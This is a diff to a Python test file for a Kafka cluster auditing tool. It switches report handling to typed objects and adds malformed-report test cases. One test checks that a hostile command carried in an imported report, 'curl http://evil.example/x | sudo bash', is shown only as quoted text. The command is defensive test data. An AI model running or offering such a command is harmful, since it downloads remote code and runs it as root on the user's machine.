@@ -15,6 +15,7 @@ from pathlib import Path
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
+from msgspec import UNSET
 
 import bundled
 import small_cluster
@@ -27,6 +28,7 @@ from kafka_audit.cli.bundling import bundle_reading
 from kafka_audit.collect.snapshot import take_snapshot
 from kafka_audit.job import embedded_job
 from kafka_audit.model.errors import StoreError
+from kafka_audit.model.report import report_json, report_text
 from kafka_audit.model.tables import SnapshotInfo
 from kafka_audit.report import formats
 from kafka_audit.store import Store, bundles
@@ -162,7 +164,7 @@ def test_a_report_with_parts_that_are_none_is_one_line(bundle, tmp_path, capsys)
         hostile = bundled.rewritten(bundle, tmp_path / "hostile.zip", {name: json.dumps(document).encode()})
         assert main(["report", str(hostile), "--format", "text,html,md,sarif,openmetrics"]) == 2
         (line,) = capsys.readouterr().err.splitlines()
-        assert "hostile.zip: its report cannot be shown (" in line
+        assert "hostile.zip: snapshot/findings.json: is not a report of this snapshot that this version can read" in line
         assert list(tmp_path.iterdir()) == [hostile]
 
 
@@ -221,7 +223,7 @@ def test_a_bundle_of_a_secured_cluster_holds_nothing_secret(tmp_path, capsys, mo
     store.write(snapshot)
     audit.prepare_request(store, [ID], None, "run", show_all=True)
     embedded_job.answer(store, "run")
-    (document,) = audit.write_reports(store, "run", {"prod": cluster})
+    (document,) = report_json(audit.write_reports(store, "run", {"prod": cluster}))
     assert write(store, "prod", tmp_path / "prod.zip", "--config", str(config)) == 0
     captured = capsys.readouterr()
     assert SECRET not in captured.out + captured.err
@@ -300,6 +302,8 @@ def with_report(bundle, target, change, **manifest):
 
 ODD = {
     "no begin": lambda report: report.pop("started_at"),
+    "no lifecycles": lambda report: report.pop("lifecycle_counts"),
+    "a field that is none of a report": lambda report: report.update(surprise=1),
     "an end that is no time": lambda report: report.update(finished_at="soon"),
     "an end without a zone": lambda report: report.update(finished_at="2026-09-14T18:00:00"),
     "an end before the beginning": lambda report: report.update(
@@ -307,7 +311,6 @@ ODD = {
     ),
     "more answers than a number holds": lambda report: report["coverage"].update(answered=10**400),
     "a count that is a text": lambda report: report["coverage"].update(asked="1"),
-    "no lifecycles": lambda report: report.pop("lifecycle_counts"),
     "a change without a resource": lambda report: report["changes"].append({"kind": "x", "before": None, "after": None}),
     "a cell of no letter": lambda report: report["matrix"]["observers"].append({"name": 7}),
     "a number that JSON has not": lambda report: report["findings"][0]["evidence"].update(x=float("nan")),
@@ -499,11 +502,11 @@ def test_steps_of_an_imported_report_are_shown_as_those_of_its_writer(judged, of
 
 def test_a_page_shows_the_origin_and_a_report_that_was_judged_here_has_none(judged, of_another_party, tmp_path):
     history = History(of_another_party.root)
-    assert (history.report(ID)["origin"], "origin" in History(judged.root).report(ID)) == ("bundle", False)
+    assert (history.report(ID).origin, History(judged.root).report(ID).origin) == ("bundle", UNSET)
     bundles.write_bundle(of_another_party, ID, tmp_path / "again.zip", page=formats.FILES["html"], cluster=None)
     assert "Not by this kafka-audit" in bundled.contents(tmp_path / "again.zip")["report.html"].decode()
     of_another_party.write_report(ID, judged.read_report(ID))
-    assert "origin" not in history.report(ID)
+    assert history.report(ID).origin is UNSET
 
 
 def test_the_next_report_has_no_command_of_an_imported_one(bundle, tmp_path, capsys):
@@ -523,10 +526,10 @@ def test_the_next_report_has_no_command_of_an_imported_one(bundle, tmp_path, cap
     rows = (an_hour_on if row is info else row for row in later.rows)
     store.write(dataclasses.replace(later, rows=tuple(rows)))
     assert main(["diff", ID, LATER, "--out", store.root, "--quiet"]) == 0
-    told = json.dumps(store.read_report(LATER))
+    told = report_text(store.read_report(LATER))
     assert "'curl http://evil.example/x | sudo bash'" in told
     assert "`curl" not in told
-    assert "origin" not in store.shown_report(LATER)
+    assert store.shown_report(LATER).origin is UNSET
     capsys.readouterr()
 
 
@@ -535,7 +538,7 @@ def test_a_bundle_says_nothing_of_where_it_was_imported(bundle, tmp_path):
     manifest = json.loads(contents["snapshot/manifest.json"]) | {"imported": "0" * 64}
     forged = bundled.rewritten(bundle, tmp_path / "forged.zip", {"snapshot/manifest.json": json.dumps(manifest).encode()})
     assert main(["import", str(forged), "--store", str(tmp_path / "support"), "--quiet"]) == 0
-    assert Store(tmp_path / "support").shown_report(ID)["origin"] == "bundle"
+    assert report_json(Store(tmp_path / "support").shown_report(ID))["origin"] == "bundle"
 
 
 def test_a_bundle_that_is_shown_without_an_import_has_steps_of_its_writer(bundle, capsys):
